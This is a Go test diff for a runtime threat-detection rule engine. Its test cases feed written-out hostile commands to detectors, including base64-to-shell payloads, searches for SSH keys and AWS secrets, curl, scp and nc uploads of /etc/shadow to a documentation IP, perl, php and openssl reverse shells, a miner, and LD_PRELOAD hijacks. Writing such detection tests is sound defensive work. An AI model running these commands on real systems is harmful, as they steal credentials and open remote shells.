@@ -2,6 +2,7 @@ package rules
 
 import (
 	"errors"
+	"fmt"
 	"slices"
 	"strings"
 	"testing"
@@ -167,6 +168,77 @@ func TestBuiltins(t *testing.T) {
 		{"thread renamed a kernel thread", []detect.Event{ev("setname", func(e *detect.Event) { e.Name = "[kworker/0:2]" })}, []string{"masquerade"}},
 		{"thread renamed a worker is fine", []detect.Event{ev("setname", func(e *detect.Event) { e.Name = "libuv-worker" })}, nil},
 		{"network tool", []detect.Event{exec("/usr/bin/socat", "-", "tcp:x:1")}, []string{"network-tool"}},
+		{"base64 into a shell", []detect.Event{exec("/bin/sh", "-c", "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh")}, []string{"decode-exec", "shell-spawned"}},
+		{"python exec of a b64decode", []detect.Event{exec("/usr/bin/python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))")}, []string{"decode-exec", "shell-spawned"}},
+		{"base64 of a file is fine", []detect.Event{func() detect.Event {
+			x := exec("/bin/sh", "-c", "base64 -d /var/task/blob > /tmp/blob")
+			x.Runtime = "shell"
+			return x
+		}()}, nil},
+		{"find for keys", []detect.Event{exec("/usr/bin/find", "/", "-name", "id_rsa*")}, []string{"credential-sweep"}},
+		{"grep for AWS secrets", []detect.Event{exec("/bin/grep", "-r", "aws_secret_access_key", "/home")}, []string{"credential-sweep"}},
+		{"find of the function's own files is fine", []detect.Event{exec("/usr/bin/find", "/var/task", "-name", "*.json")}, nil},
+		{"curl uploads a file", []detect.Event{exec("/usr/bin/curl", "-s", "-X", "POST", "--data-binary", "@/etc/passwd", "http://198.51.100.1/x")}, []string{"exfil-upload"}},
+		{"curl -d @file", []detect.Event{exec("/usr/bin/curl", "-d", "@/tmp/loot.tgz", "http://198.51.100.1/x")}, []string{"exfil-upload"}},
+		{"curl -T", []detect.Event{exec("/usr/bin/curl", "-T", "/tmp/dump.sql", "ftp://198.51.100.1/")}, []string{"exfil-upload"}},
+		{"scp to a remote", []detect.Event{exec("/usr/bin/scp", "/tmp/k", "u@198.51.100.1:/x")}, []string{"exfil-upload", "network-tool"}},
+		{"a file fed to nc", []detect.Event{func() detect.Event {
+			x := exec("/bin/sh", "-c", "nc 198.51.100.1 9 < /etc/shadow")
+			x.Phase = detect.PhaseInit
+			return x
+		}()}, []string{"exfil-upload"}},
+		{"a shell runtime posting its response is fine", []detect.Event{func() detect.Event {
+			x := exec("/usr/bin/curl", "-sS", "-d", "@/tmp/response.json", "http://127.0.0.1:9001/2018-06-01/runtime/invocation/abc/response")
+			x.Runtime = "shell"
+			return x
+		}()}, nil},
+		{"curl download is fine", []detect.Event{func() detect.Event {
+			x := exec("/usr/bin/curl", "-o", "/tmp/x", "http://127.0.0.1:9001/data")
+			x.Runtime = "shell"
+			return x
+		}()}, nil},
+		{"tor started", []detect.Event{exec("/usr/bin/tor", "--SocksPort", "9050")}, []string{"anonymity-network"}},
+		{"socks to the tor port", []detect.Event{connect("inet", "127.0.0.1", 9050)}, []string{"anonymity-network"}},
+		{"hidden directory '...'", []detect.Event{ev("mkdir", func(e *detect.Event) { e.Path = "/tmp/..." })}, []string{"hidden-file"}},
+		{"dotfile in /dev/shm", []detect.Event{open("/dev/shm/.x", "write", "create")}, []string{"hidden-file"}},
+		{"a dotfile in /tmp is fine", []detect.Event{open("/tmp/.cache-lock", "write", "create")}, nil},
+		{"xmrig renamed", []detect.Event{exec("/tmp/xmrig-6.21-notls", "-o", "pool:443")}, []string{"mining-pool", "exec-from-writable"}},
+		{"a miner under another name, by its flags", []detect.Event{exec("/var/task/worker", "--donate-level=1", "-o", "x:443", "-a", "rx/0")}, []string{"mining-pool"}},
+		{"perl socket one-liner", []detect.Event{exec("/usr/bin/perl", "-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");`)}, []string{"reverse-shell", "shell-spawned"}},
+		{"php fsockopen", []detect.Event{exec("/usr/bin/php", "-r", `$s=fsockopen("198.51.100.1",9);exec("/bin/sh -i <&3 >&3 2>&3");`)}, []string{"reverse-shell", "shell-spawned"}},
+		{"gawk /inet/tcp", []detect.Event{exec("/usr/bin/gawk", "BEGIN{s=\"/inet/tcp/0/198.51.100.1/9\"}")}, []string{"reverse-shell"}},
+		{"openssl s_client piped into a shell", []detect.Event{exec("/bin/sh", "-c", "mkfifo /tmp/f; openssl s_client -quiet -connect 198.51.100.1:9 < /tmp/f | /bin/sh > /tmp/f")}, []string{"reverse-shell", "shell-spawned"}},
+		{"python http client is fine", []detect.Event{func() detect.Event {
+			x := exec("/usr/bin/python3", "-c", "import socket; print(socket.gethostname())")
+			x.Phase = detect.PhaseInit
+			return x
+		}()}, nil},
+		{"renamed key file", []detect.Event{open("/tmp/id_rsa.bak", "read")}, []string{"credential-read"}},
+		{"backup of AWS credentials", []detect.Event{open("/home/u/.aws/credentials.old", "read")}, []string{"credential-read"}},
+		{"a public key is fine", []detect.Event{open("/var/task/keys/id_ed25519.pub", "read")}, nil},
+		{"LD_PRELOAD", []detect.Event{withEnv(exec("/usr/bin/id"), "LD_PRELOAD=/var/task/lib/hook.so")}, []string{"loader-hijack"}},
+		{"LD_AUDIT", []detect.Event{withEnv(exec("/usr/bin/id"), "LD_AUDIT=libaudit.so")}, []string{"loader-hijack"}},
+		{"library path through /dev/shm", []detect.Event{withEnv(exec("/usr/bin/id"), "LD_LIBRARY_PATH=/lib64:/dev/shm")}, []string{"loader-hijack"}},
+		{"the runtime's library path is fine", []detect.Event{withEnv(exec("/var/task/bootstrap"),
+			"LD_LIBRARY_PATH=/lib64:/usr/lib64:/var/runtime:/var/runtime/lib:/var/task:/var/task/lib:/opt/lib", "LD_PRELOAD=")}, nil},
+		{"credential read through a symlink", []detect.Event{ev("open", func(e *detect.Event) {
+			e.Path, e.Opened, e.Intent = "/tmp/innocent", "/etc/shadow", []string{"read"}
+		})}, []string{"credential-read"}},
+		{"environ through /proc/self, opened by pid", []detect.Event{ev("open", func(e *detect.Event) {
+			e.Path, e.Opened, e.Intent = "/var/task/x", "/proc/7/environ", []string{"read"}
+		})}, []string{"environ-read"}},
+		{"a symlink to an ordinary file is fine", []detect.Event{ev("open", func(e *detect.Event) {
+			e.Path, e.Opened, e.Intent = "/etc/localtime", "/usr/share/zoneinfo/Etc/UTC", []string{"read"}
+		})}, nil},
+		{"written through a link, run by its real name", []detect.Event{
+			ev("open", func(e *detect.Event) {
+				e.Path, e.Opened, e.Intent = "/tmp/out", "/tmp/payload", []string{"write", "create"}
+			}),
+			exec("/tmp/payload"),
+		}, []string{"tmp-write-exec", "exec-from-writable"}},
+		{"run through a symlink from a writable place", []detect.Event{ev("exec", func(e *detect.Event) {
+			e.Path, e.Opened, e.Argv = "/var/task/tool", "/dev/shm/.x", []string{"tool"}
+		})}, []string{"exec-from-writable"}},
 		{"benign go function", []detect.Event{
 			open("/var/task/config.json", "read"), open("/etc/hosts", "read"), open("/tmp/scratch-1.json", "write", "create"),
 			open("/tmp/scratch-1.json", "read"), ev("unlink", func(e *detect.Event) { e.Path = "/tmp/scratch-1.json" }),
@@ -195,6 +267,75 @@ func TestBuiltins(t *testing.T) {
 				t.Errorf("fired %v, want %v", got, want)
 			}
 		})
+	}
+}
+
+func withEnv(e detect.Event, env ...string) detect.Event {
+	e.Env = env
+	return e
+}
+
+func fork(at time.Duration, errno string) detect.Event {
+	return ev("fork", func(e *detect.Event) {
+		e.Syscall, e.Time, e.Result = "clone", t0.Add(at), 42
+		if errno != "" {
+			e.Result, e.Errno = -11, errno
+		}
+	})
+}
+
+func TestProcessStorm(t *testing.T) {
+	e, _ := New(nil)
+	var evs []detect.Event
+	for i := range 200 {
+		evs = append(evs, fork(time.Duration(i)*time.Millisecond, ""))
+	}
+	if got := fired(t, e, evs...); !slices.Equal(got, []string{"process-storm"}) {
+		t.Errorf("200 processes in 200 ms fired %v, want one process-storm", got)
+	}
+	// A handler that runs a tool per request: ten a second for three
+	// seconds.
+	evs = nil
+	for i := range 30 {
+		evs = append(evs, fork(time.Duration(i)*100*time.Millisecond, ""))
+	}
+	if got := fired(t, e, evs...); len(got) != 0 {
+		t.Errorf("ten processes a second fired %v", got)
+	}
+	// The pids limit refused one: a storm whatever the count.
+	if got := fired(t, e, fork(0, ""), fork(time.Millisecond, "EAGAIN")); !slices.Equal(got, []string{"process-storm"}) {
+		t.Errorf("a fork refused by the pids limit fired %v", got)
+	}
+	if got := fired(t, e, fork(0, "ENOMEM")); len(got) != 0 {
+		t.Errorf("a fork out of memory fired %v", got)
+	}
+}
+
+func TestDirectorySweep(t *testing.T) {
+	e, _ := New(nil)
+	dir := func(p string, at time.Duration) detect.Event {
+		return ev("open", func(e *detect.Event) {
+			e.Path, e.Flags, e.Intent, e.Time, e.Result = p, oDirectory, []string{"read"}, t0.Add(at), 3
+		})
+	}
+	var evs []detect.Event
+	for i := range 400 {
+		evs = append(evs, dir(fmt.Sprintf("/home/u%d/.config", i), time.Duration(i)*time.Millisecond))
+	}
+	if got := fired(t, e, evs...); !slices.Equal(got, []string{"directory-sweep"}) {
+		t.Errorf("400 directories in 400 ms fired %v, want one directory-sweep", got)
+	}
+	// A runtime's module search, and a function listing its own tree
+	// and a few others, slowly.
+	evs = nil
+	for i := range 500 {
+		evs = append(evs, dir(fmt.Sprintf("/var/task/node_modules/m%d", i), 0))
+	}
+	for i := range 200 {
+		evs = append(evs, dir(fmt.Sprintf("/tmp/work/%d", i), time.Duration(i)*100*time.Millisecond))
+	}
+	if got := fired(t, e, evs...); len(got) != 0 {
+		t.Errorf("benign listings fired %v", got)
 	}
 }
 
